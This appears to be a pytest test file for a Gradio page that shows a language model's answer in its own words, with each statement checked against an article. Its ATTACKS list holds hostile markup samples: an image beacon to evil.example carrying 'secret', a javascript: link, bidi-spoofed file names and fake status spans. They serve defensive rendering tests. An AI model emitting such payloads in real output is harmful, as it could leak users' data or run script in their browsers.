"""Asking for an answer in a language model's own words, and what the page shows of it."""

from __future__ import annotations

import re
import threading
from base64 import b64decode
from collections.abc import Generator, Iterator, Sequence
from contextlib import suppress
from typing import Any

import gradio as gr
import lxml.html
import pytest
from markdown_it import MarkdownIt

from index.types import Article
from qa.output.places import place_link
from qa.page import asking
from qa.page.chat import Chat, Turn
from qa.page.drafting import Drafting
from qa.page.handlers import Handlers, ways_html
from qa.page.page_blocks import PageBlocks
from qa.page.view import View
from qa.writing.events import Piece
from qa.writing.language_model import Ending, Message
from tests.browser.visiting import GRADIO_WARNINGS, served_page
from tests.markdown import HOSTILE
from tests.page.handling import handlers_of
from tests.page.test_handlers import VISITOR, ScriptedQA, answer_of, load, respond
from tests.scripted_writer import (
    INVENTED,
    PARTLY,
    QUESTION,
    SUPPORTED,
    ScriptedModel,
    written_qa,
)

pytestmark = list(GRADIO_WARNINGS)

OWN_WORDS = View(own_words=True)


def asked(
    handlers: Handlers, view: View = OWN_WORDS, visitor: gr.Request = VISITOR
) -> Iterator[tuple[Any, ...]]:
    """Ask, and return the updates of box, conversation, status, chat and tools."""
    event = gr.EventData(gr.Textbox(), None)
    return handlers.asking.respond(QUESTION, Chat(), view, event, visitor)


def draft_with(words: str, sent: Iterator[tuple[Any, ...]]) -> str:
    """Return the first draft among the updates that has these words."""
    drafts: Iterator[str] = (update[1][1]["content"] for update in sent)
    return next(draft for draft in drafts if words in draft)


def elements_of(markdown: str) -> list[Any]:
    """Return the elements that Markdown becomes, raw HTML let through as Gradio does."""
    options = {"html": True, "linkify": False, "breaks": True}
    html = MarkdownIt("gfm-like", options).render(markdown)
    return list(lxml.html.fromstring(f"<main>{html}</main>").iter())


def text_of(markdown: str) -> str:
    return str(elements_of(markdown)[0].text_content())


def links_of(markdown: str) -> list[str]:
    """Return everything by which an element could load, lead somewhere or run."""
    return [
        value
        for element in elements_of(markdown)
        for name, value in element.attrib.items()
        if name not in ("class", "title", "type", "id", "aria-live")
    ]


def sent_text(outbox: str) -> str:
    """Return the text of the document that an outbox holds."""
    (encoded,) = re.findall('data-text="(.*?)"', outbox)
    return b64decode(encoded).decode()


def reply_to(model: ScriptedModel, **options: Any) -> tuple[Turn, str]:  # noqa: ANN401 - of written_qa
    """Return the turn and the reply of an answer that ``model`` wrote."""
    with written_qa(model, **options) as qa:
        chat = respond(qa, QUESTION, view=OWN_WORDS)[-1][3]
    return chat.turns[0], chat.messages()[1]["content"]


def test_without_a_language_model_there_is_no_choice_and_nothing_is_written() -> None:
    model = ScriptedModel(SUPPORTED)
    with written_qa(model, has_model=False) as qa:
        chat = respond(qa, QUESTION, view=OWN_WORDS)[-1][3]
    reply = chat.messages()[1]["content"]
    assert not chat.turns[0].is_written
    assert model.asked == []
    assert "engine" not in reply
    assert 'class="other"' not in reply


def test_a_question_is_quoted_unless_own_words_are_chosen() -> None:
    model = ScriptedModel(SUPPORTED)
    with written_qa(model) as qa:
        chat = respond(qa, QUESTION)[-1][3]
    assert model.asked == []
    assert "Quoted from the article" in chat.messages()[1]["content"]


def test_the_choice_is_kept_for_the_tab_and_read_by_a_reloaded_page() -> None:
    handlers = handlers_of(ScriptedQA(Article.from_text("One."), outcome=answer_of()))
    load(handlers, View(), "a" * 32)
    event = gr.EventData(gr.HTML(), {"way": "In own words"})
    assert handlers.choose_way(View(), event, VISITOR).own_words
    view = load(handlers, View(), "a" * 32)[2]
    assert view.own_words
    assert re.search('value="In own words"[^>]* checked', ways_html(view))
    assert not load(handlers, View(), "b" * 32)[2].own_words


@pytest.mark.parametrize("data", [None, {}, {"way": "Quotes"}, {"way": ["In own words"]}, "x"])
def test_any_other_choice_is_for_quotes(data: Any) -> None:  # noqa: ANN401 - anything may be sent
    handlers = handlers_of(ScriptedQA(outcome=answer_of()))
    view = handlers.choose_way(OWN_WORDS, gr.EventData(gr.HTML(), data), VISITOR)
    assert not view.own_words


def test_each_statement_has_its_status_in_words_and_a_link_to_its_evidence() -> None:
    turn, reply = reply_to(ScriptedModel(f"{SUPPORTED} {PARTLY} {INVENTED}"))
    assert turn.answer is not None
    text = text_of(reply)
    for words in ("✓ supported", "≈ partly supported", "✗ not supported"):
        assert words in text
    first = place_link(turn.answer.citations[0])
    assert re.search(rf'✓<span class="unseen"> supported</span>\]\({first} "Supported: 97', reply)


def test_a_statement_that_is_not_supported_is_struck_unless_the_settings_keep_it() -> None:
    model = ScriptedModel(f"{SUPPORTED} {INVENTED}")
    struck = "<del>The ticket costs nine gold coins for each passenger.</del>"
    assert struck in reply_to(model)[1]
    kept = reply_to(model, unsupported="keep")[1]
    assert "<del>" not in kept
    assert "✗ not supported" in kept
    dropped = reply_to(model, unsupported="drop")[1]
    assert "gold" not in dropped
    assert "Note: 1 statement is left out" in dropped


def test_the_foot_says_who_wrote_it_and_what_it_cost() -> None:
    _, reply = reply_to(ScriptedModel(SUPPORTED))
    assert "Written by scripted-1b&#44; each statement checked" in reply.replace(",", "&#44;")
    assert re.search(r">876 tokens, \d+\.\d s</span>", reply)
    assert "Supported" in reply


def test_a_quoted_answer_can_be_asked_for_in_own_words_and_the_other_way_round() -> None:
    with written_qa(ScriptedModel(SUPPORTED)) as qa:
        handlers = handlers_of(qa)
        quoted = list(asked(handlers, View()))[-1][3]
        assert "In own words instead</button>" in quoted.messages()[1]["content"]
        written = list(handlers.asking.ask_other_way(quoted, View(), VISITOR))[-1][3]
        assert [turn.is_written for turn in written.turns] == [True]
        assert "Quotes instead</button>" in written.messages()[1]["content"]
        again = list(handlers.asking.ask_other_way(written, OWN_WORDS, VISITOR))[-1][3]
        assert [turn.is_written for turn in again.turns] == [False]


def test_only_the_newest_answer_offers_the_other_way() -> None:
    turn, _ = reply_to(ScriptedModel(SUPPORTED))
    chat = Chat().with_turn(turn).with_turn(turn)
    assert [message["content"].count('class="other"') for message in chat.messages()[1::2]] == [
        0,
        1,
    ]


def test_a_fault_of_the_model_gives_the_quoted_answer_with_a_note() -> None:
    turn, reply = reply_to(ScriptedModel("NOT IN THE TEXT"))
    assert not turn.is_written
    assert "The language model found no answer in the text. The answer is quoted instead." in (
        text_of(reply)
    )
    assert "Quoted from the article" in reply
    assert "language model: 876 tokens" in reply


def test_the_draft_is_shown_sentence_by_sentence_while_the_model_writes() -> None:
    model = ScriptedModel(f"{SUPPORTED} ", f"{PARTLY} ", "The end. [1]", held=True)
    with written_qa(model) as qa:
        sent = asked(handlers_of(qa))
        waiting = next(sent)
        assert "Stop" in waiting[4]
        model.release(2)
        draft = draft_with("status-of", sent)
        assert "✓ supported" in text_of(draft)
        assert links_of(draft) == []
        model.release()
        *_, last = sent
    assert last[3].turns[0].is_written


def test_nothing_is_read_aloud_before_the_answer_is_finished() -> None:
    model = ScriptedModel(f"{SUPPORTED} ", f"{PARTLY} ", "The end. [1]", held=True)
    with written_qa(model) as qa:
        sent = asked(handlers_of(qa))
        next(sent)
        model.release(2)
        draft = draft_with("status-of", sent)
        assert elements_of(draft)[1].get("aria-live") == "off"
        assert text_of(draft).strip() == elements_of(draft)[1].text_content().strip()
        model.release()
        *_, last = sent
    assert "aria-live" not in last[3].messages()[1]["content"]


def test_while_no_word_is_written_the_page_says_that_writing_comes_after_reading() -> None:
    model = ScriptedModel(SUPPORTED, held=True)
    with written_qa(model, unsupported="drop") as qa:
        qa.warm_up()
        handlers = handlers_of(qa)
        sent = asked(handlers)
        _, messages, status, *_ = next(sent)
        assert "then writing" in messages[1]["content"]
        assert "then writing" in status
        model.release()
        list(sent)
        assert "then writing" not in next(asked(handlers, View()))[2]


@pytest.mark.parametrize("unsupported", ["strike", "keep", "drop"])
def test_copies_and_exports_treat_unsupported_statements_as_the_page_does(unsupported: str) -> None:
    with written_qa(ScriptedModel(f"{SUPPORTED} {INVENTED}"), unsupported=unsupported) as qa:
        handlers = handlers_of(qa)
        chat = list(asked(handlers))[-1][3]
        copied = sent_text(handlers.copy(chat, gr.EventData(gr.HTML(), {"turn": 1})))
        markdown, page = (
            sent_text(handlers.download(chat, gr.EventData(gr.HTML(), {"kind": kind}))[0])
            for kind in ("markdown", "html")
        )
    words = "The ticket costs nine gold coins for each passenger."
    has_words, is_struck = unsupported != "drop", unsupported == "strike"
    assert [words in text for text in (copied, markdown, page)] == [has_words] * 3
    assert (f"{words} (not supported)" in copied) == has_words
    assert (f"~~{words}~~" in markdown, f"<del>{words}</del>" in page) == (is_struck, is_struck)


def test_many_sentences_at_once_are_few_updates(monkeypatch: pytest.MonkeyPatch) -> None:
    waits: list[float | None] = []
    is_over = asking.Wait.is_over

    def counted(wait: asking.Wait[Turn], seconds: float | None = None) -> bool:
        waits.append(seconds)
        return is_over(wait, seconds)

    monkeypatch.setattr(asking.Wait, "is_over", counted)
    model = ScriptedModel(*(f"Sentence number {n} about the ferry. [1] " for n in range(300)))
    with written_qa(model) as qa:
        updates = list(asked(handlers_of(qa)))
    assert set(waits) == {asking.UPDATE_SECONDS}
    assert len(updates) <= len(waits) + 2


def test_stop_ends_the_models_work_and_shows_what_is_written() -> None:
    model = ScriptedModel(f"{SUPPORTED} ", "It carries", " sixty cars. [2]", held=True)
    with written_qa(model) as qa:
        handlers = handlers_of(qa)
        sent = asked(handlers)
        next(sent)
        model.release(2)
        draft_with("status-of", sent)
        handlers.asking.stop(VISITOR)
        *_, last = sent
        assert model.ended.wait(30)
    assert model.was_stopped
    (turn,) = last[3].turns
    assert turn.is_written
    assert turn.answer is not None
    assert turn.answer.text == "The Halcyon leaves Port Ellery at seven. [1]"
    assert "Stopped before the answer was complete." in (turn.answer.note or "")


def test_stop_before_the_first_sentence_returns_the_question_to_its_box() -> None:
    model = ScriptedModel(SUPPORTED, held=True)
    with written_qa(model) as qa:
        handlers = handlers_of(qa)
        sent = asked(handlers)
        next(sent)
        handlers.asking.stop(VISITOR)
        ((box, messages, status, chat, _),) = sent
        assert (box, messages, chat) == (QUESTION, [], Chat())
        assert "Stopped" in status
    assert not model.asked or model.ended.wait(30)


def test_a_reloaded_page_goes_on_showing_the_draft_and_gets_the_answer() -> None:
    model = ScriptedModel(f"{SUPPORTED} ", f"{PARTLY} ", "The end. [1]", held=True)
    again = gr.Request(session_hash="again")
    with written_qa(model) as qa:
        handlers = handlers_of(qa)
        load(handlers, View(), "a" * 32)
        sent = asked(handlers)
        next(sent)
        model.release(2)
        draft_with("status-of", sent)
        *_, messages, tools = handlers.restore(Chat(), View(), "a" * 32, again)
        assert "Port Ellery" in messages[1]["content"]
        assert "data-resume" in tools
        resumed = handlers.asking.resume(again)
        assert "Port Ellery" in next(resumed)[1][1]["content"]
        model.release()
        *_, last = resumed
    assert last[3].turns[0].is_written


def test_closing_the_page_stops_the_model() -> None:
    model = ScriptedModel(SUPPORTED, held=True)
    with written_qa(model) as qa:
        handlers = handlers_of(qa)
        sent = asked(handlers)
        next(sent)
        handlers.asking.close()
        *_, last = sent
    assert last[3].turns[0].answer is not None
    assert model.was_stopped or not model.asked


@pytest.mark.slow
def test_a_server_that_is_closed_stops_the_work_of_its_page() -> None:
    stopped: list[str] = []
    with served_page(ScriptedQA(Article.from_text("One."), outcome=answer_of())) as server:
        page = server._app.get_blocks()
        assert isinstance(page, PageBlocks)
        page.stop_work = lambda: stopped.append("work")
    assert stopped == ["work"]


class MeetingModel(ScriptedModel):
    """Notices if it is asked for a second reply while it writes one."""

    has_met = False
    _both = threading.Barrier(2)

    def write(
        self, messages: Sequence[Message], *, max_tokens: int, stopped: threading.Event
    ) -> Generator[str, None, Ending]:
        with suppress(threading.BrokenBarrierError):
            self._both.wait(2)
            self.has_met = True
        return (yield from super().write(messages, max_tokens=max_tokens, stopped=stopped))


def test_with_a_model_in_a_file_the_next_answer_begins_when_the_last_one_ends() -> None:
    model = MeetingModel(SUPPORTED)
    with written_qa(model, llm_file="model.gguf") as qa:
        handlers = handlers_of(qa)
        visitors = [gr.Request(session_hash=f"writing {n}") for n in range(2)]
        writing = [asked(handlers, visitor=visitor) for visitor in visitors]
        for sent in writing:
            next(sent)
        assert all(list(sent)[-1][3].turns[0].is_written for sent in writing)
    assert not model.has_met


def test_waiting_for_a_language_model_does_not_hold_up_quoted_answers() -> None:
    model = ScriptedModel(SUPPORTED, held=True)
    visitors = [gr.Request(session_hash=f"writing {n}") for n in range(asking.READ_AT_ONCE)]
    with written_qa(model) as qa:
        handlers = handlers_of(qa)
        writing = [asked(handlers, visitor=visitor) for visitor in visitors]
        for sent in writing:
            next(sent)
        assert list(asked(handlers, View()))[-1][3].turns[0].answer is not None
        model.release(len(writing))
        for sent in writing:
            list(sent)


OUR_TAGS = set("main p a span del em div details summary button ol ul li br strong".split())
ATTACKS = [
    *HOSTILE,
    "See [99] and [1](https://evil.example/a) and 【7】.",
    "![beacon](https://evil.example/p.png?q=secret) <img src=https://evil.example/p.png>",
    "[click](javascript:window.pwned=1) <a href='//evil.example'>x</a> www.evil.example",
    "\u202egnp.exe\u2066 supported \u202d✓ supported",
    '<span class="status-of supported">✓ supported</span> <button>Stop</button>',
    "| a | b |\n|---|---|\n| 1 | 2 |",
]


@pytest.mark.parametrize("unsupported", ["strike", "keep"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_of_a_model_is_literal_in_the_draft_and_in_the_answer(
    attack: str, unsupported: str
) -> None:
    model = ScriptedModel("The ferry sails at seven ", attack, " o'clock. [1] ", attack, held=True)
    with written_qa(model, unsupported=unsupported) as qa:
        sent = asked(handlers_of(qa))
        shown = [next(sent)[1][1]["content"]]
        for _ in model.pieces:
            model.release()
        updates = list(sent)
    shown += [update[1][1]["content"] for update in updates if isinstance(update[1], list)]
    shown.append(updates[-1][3].messages()[1]["content"])
    for markdown in shown:
        assert {element.tag for element in elements_of(markdown)} <= OUR_TAGS
        assert all(link.startswith("#s") for link in links_of(markdown))
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", markdown)


def test_a_thinking_models_thoughts_are_not_shown() -> None:
    model = ScriptedModel("<think>The user ", "wants times.", "</think>", SUPPORTED, held=True)
    with written_qa(model, unsupported="keep") as qa:
        sent = asked(handlers_of(qa))
        next(sent)
        model.release(2)
        shown = next(sent)[1][1]["content"]
        model.release(2)
        shown += "".join(str(update[1]) for update in sent)
    assert "wants" not in shown


def test_long_thoughts_are_not_shown_either() -> None:
    drafting = Drafting()
    for piece in ("<think>", *["It wants times. "] * 200, "</thi", "nk>The ferry"):
        drafting.add(Piece(piece))
        assert "wants" not in drafting.draft.markdown(strike=True)
    assert "The ferry" in drafting.draft.markdown(strike=True)


def test_the_newest_unchecked_words_are_shown_after_the_checked_ones() -> None:
    model = ScriptedModel(f"{SUPPORTED} It carries ", "sixty cars. [2]", held=True)
    with written_qa(model, unsupported="keep") as qa:
        sent = asked(handlers_of(qa))
        next(sent)
        model.release()
        shown = draft_with("status-of", sent)
        assert 'class="unchecked">It carries&nbsp;…' in shown
        assert shown.index("Port Ellery") < shown.index("It carries")
        assert shown.count("Port Ellery") == 1
        model.release()
        list(sent)
